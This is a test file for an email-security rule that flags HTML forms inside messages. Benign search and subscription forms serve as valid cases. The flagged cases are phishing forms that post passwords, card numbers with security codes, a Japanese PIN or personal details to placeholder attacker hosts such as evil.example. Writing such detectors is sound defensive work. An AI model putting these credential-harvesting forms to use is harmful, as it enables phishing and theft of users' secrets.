import { eml, ruleTester } from '../../testing.js';
import rule from './form-in-mail.js';

const html = (inner: string) =>
  eml({ from: 'Shop <info@example.jp>', subject: 'x', html: `<html><body>${inner}</body></html>` });

ruleTester(rule, {
  valid: [
    { name: 'no form', email: html('<p>Hello</p>') },
    {
      name: 'a newsletter search box',
      email: html(
        '<form action="https://www.example.com/search"><input type="text" name="q"><input type="submit" value="Go"></form>',
      ),
    },
    {
      name: 'a subscription box',
      email: html(
        '<form action="https://news.example.com/sub"><input type="text" name="email_address"><input type="radio" name="op"></form>',
      ),
    },
    { name: 'filler empty forms', email: html('<form></form><form></form><p>text</p>') },
    {
      name: 'a shipping field is not a PIN',
      email: html('<form><input type="text" name="shipping"></form>'),
    },
  ],
  invalid: [
    {
      name: 'a password field',
      email: html(
        '<form action="https://evil.example/p"><input type="email" name="email"><input type="password" name="pass"></form>',
      ),
      evidence: 'password',
    },
    {
      name: 'card number and security code',
      email: html(
        '<form method="post" action="http://203.0.113.9/x.php"><input name="cardnumber" placeholder="カード番号"><input name="cvv"></form>',
      ),
      evidence: 'cardnumber',
    },
    {
      name: 'Japanese placeholder for 暗証番号',
      email: html(
        '<form action="https://evil.example/"><input type="tel" name="f1" placeholder="暗証番号（4桁）"></form>',
      ),
      evidence: '暗証番号',
    },
    {
      name: 'a form collecting personal details',
      email: html(
        '<form action="https://evil.example/"><input name="fullname" placeholder="氏名"><input name="birth"><input name="phone"><input name="address"></form>',
      ),
      evidence: 'birth',
    },
  ],
});
